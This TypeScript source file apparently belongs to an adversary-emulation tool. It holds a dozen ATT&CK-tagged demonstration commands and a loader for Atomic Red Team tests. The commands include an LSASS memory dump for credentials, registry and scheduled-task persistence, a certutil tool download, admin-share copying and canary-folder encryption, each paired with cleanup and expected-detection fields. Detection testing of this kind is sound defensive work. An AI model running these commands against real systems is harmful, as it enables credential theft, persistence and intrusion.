import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'yaml';

export type TemplateInput = {
  name: string;
  description: string | null;
  objective: string | null;
  procedure: string | null;
  command: string | null;
  cleanup_command: string | null;
  expected_detection: string | null;
  platforms: string[];
  opsec: 'low' | 'medium' | 'high' | null;
  tags: string[];
  catalog_tags: { kind: 'technique' | 'subtechnique'; external_id: string }[];
  source: string | null;
};

type Own = [
  technique: string,
  name: string,
  objective: string,
  command: string,
  cleanup: string | null,
  expected: string,
  platform: string,
  opsec: 'low' | 'medium' | 'high',
];

const own: Own[] = [
  [
    'T1059.001',
    'Encoded PowerShell command',
    'Run a script that is hidden from a glance at the command line',
    'powershell.exe -NoProfile -EncodedCommand dwBoAG8AYQBtAGkA',
    null,
    'Process creation of powershell.exe with -EncodedCommand; script block log 4104 with the decoded text',
    'windows',
    'medium',
  ],
  [
    'T1033',
    'Who am I on this host',
    'Learn the account and groups the foothold runs under',
    'whoami /all',
    null,
    'Process creation of whoami.exe by an unusual parent',
    'windows',
    'low',
  ],
  [
    'T1087.001',
    'List local accounts',
    'Find accounts worth taking over',
    'cut -d: -f1,3,7 /etc/passwd',
    null,
    'Reads of /etc/passwd by an interactive shell of a service account',
    'linux',
    'low',
  ],
  [
    'T1016',
    'Read the network configuration',
    'Find further networks and name servers',
    'ip -brief address && ip route && cat /etc/resolv.conf',
    null,
    'Burst of discovery commands within a minute on one host',
    'linux',
    'low',
  ],
  [
    'T1057',
    'List processes with their owners',
    'Recognise the security products that are running',
    'tasklist /v /fo csv',
    null,
    'Process creation of tasklist.exe followed by other discovery commands',
    'windows',
    'low',
  ],
  [
    'T1082',
    'Read system information',
    'Learn version and patch level',
    'systeminfo',
    null,
    'Process creation of systeminfo.exe by a non-administrator',
    'windows',
    'low',
  ],
  [
    'T1053.005',
    'Scheduled task at sign-in',
    'Come back after a restart',
    'schtasks /create /tn DamsonExercise /sc onlogon /tr "cmd.exe /c echo damson"',
    'schtasks /delete /tn DamsonExercise /f',
    'Security event 4698 with a task that runs a command interpreter',
    'windows',
    'medium',
  ],
  [
    'T1547.001',
    'Run key of the current user',
    'Come back at every sign-in without administrator rights',
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Damson /d "cmd.exe /c echo damson" /f',
    'reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Damson /f',
    'Registry write below CurrentVersion\\Run (Sysmon event 13)',
    'windows',
    'medium',
  ],
  [
    'T1003.001',
    'Dump the memory of LSASS',
    'Obtain credentials of people signed in to the host',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Windows\\Temp\\damson.dmp full',
    'del C:\\Windows\\Temp\\damson.dmp',
    'Process access to lsass.exe with read rights (Sysmon event 10); blocked by credential protection',
    'windows',
    'high',
  ],
  [
    'T1021.002',
    'Copy a file to an administrative share',
    'Move to the next host with a valid account',
    'copy damson.txt \\\\FILESRV01\\ADMIN$\\Temp\\damson.txt',
    'del \\\\FILESRV01\\ADMIN$\\Temp\\damson.txt',
    'Security event 5140 on ADMIN$ from a workstation',
    'windows',
    'medium',
  ],
  [
    'T1105',
    'Fetch a tool with certutil',
    'Bring a tool to the host with what is there already',
    'certutil.exe -urlcache -split -f http://10.0.0.5/damson.txt C:\\Windows\\Temp\\damson.txt',
    'del C:\\Windows\\Temp\\damson.txt',
    'certutil.exe with -urlcache making a network connection',
    'windows',
    'high',
  ],
  [
    'T1486',
    'Encrypt a canary folder',
    'See how far encryption gets before someone stops it',
    'openssl enc -aes-256-cbc -pbkdf2 -pass pass:exercise -in /srv/canary/report.odt -out /srv/canary/report.odt.damson',
    'rm /srv/canary/report.odt.damson',
    'Many files of the canary share renamed by one process within seconds',
    'linux',
    'high',
  ],
];

/** The dozen templates that come with the demonstration. */
export function ownTemplates(): TemplateInput[] {
  return own.map(([technique, name, objective, command, cleanup, expected, platform, opsec]) => ({
    name,
    description: `${objective}, on ${platform === 'windows' ? 'a Windows' : 'a Linux'} host of the exercise range.`,
    objective,
    procedure: 'Run the command on the foothold, keep its output, and note the exact time.',
    command,
    cleanup_command: cleanup,
    expected_detection: expected,
    platforms: [platform],
    opsec,
    tags: ['demonstration'],
    catalog_tags: [tagOf(technique)],
    source: null,
  }));
}

const filesTaken = 20;
const testsPerFile = 3;

type Atomic = {
  name?: unknown;
  description?: unknown;
  supported_platforms?: unknown;
  input_arguments?: Record<string, { default?: unknown }>;
  executor?: { name?: unknown; command?: unknown; cleanup_command?: unknown; steps?: unknown };
};

/** Templates from twenty Atomic Red Team files of a folder, spread over all of its files. */
export function atomicTemplates(folder: string): TemplateInput[] {
  const files = readdirSync(folder)
    .filter((name) => /^T\d{4}(\.\d{3})?\.ya?ml$/.test(name))
    .sort();
  if (files.length === 0) throw new Error(`${folder} holds no Atomic Red Team files (T1059.001.yaml, …)`);
  const step = Math.max(1, files.length / filesTaken);
  const taken = Array.from(
    { length: Math.min(filesTaken, files.length) },
    (_, index) => files[Math.floor(index * step)],
  );
  return taken.flatMap((file) => templatesOf(path.join(folder, file as string)));
}

function templatesOf(file: string): TemplateInput[] {
  const document = parse(readFileSync(file, 'utf8')) as {
    attack_technique?: unknown;
    atomic_tests?: Atomic[];
  };
  const technique = String(document.attack_technique ?? '');
  return (document.atomic_tests ?? []).slice(0, testsPerFile).map((atomic) => {
    const fill = (text: unknown) => (typeof text === 'string' ? withDefaults(text, atomic) : null);
    return {
      name: String(atomic.name ?? technique).slice(0, 200),
      description: fill(atomic.description),
      objective: null,
      procedure: fill(atomic.executor?.steps),
      command: fill(atomic.executor?.command),
      cleanup_command: fill(atomic.executor?.cleanup_command),
      expected_detection: null,
      platforms: Array.isArray(atomic.supported_platforms) ? atomic.supported_platforms.map(String) : [],
      opsec: null,
      tags: ['atomic-red-team', String(atomic.executor?.name ?? 'manual')],
      catalog_tags: [tagOf(technique)],
      source: `Atomic Red Team ${technique}`,
    };
  });
}

/** Atomic commands name their arguments as `#{name}`; the demonstration puts in their defaults. */
function withDefaults(text: string, atomic: Atomic): string {
  return text.replace(/#\{(\w+)\}/g, (whole, name: string) => {
    const value = atomic.input_arguments?.[name]?.default;
    return value === undefined || value === null ? whole : String(value);
  });
}

function tagOf(technique: string): TemplateInput['catalog_tags'][number] {
  return { kind: technique.includes('.') ? 'subtechnique' : 'technique', external_id: technique };
}
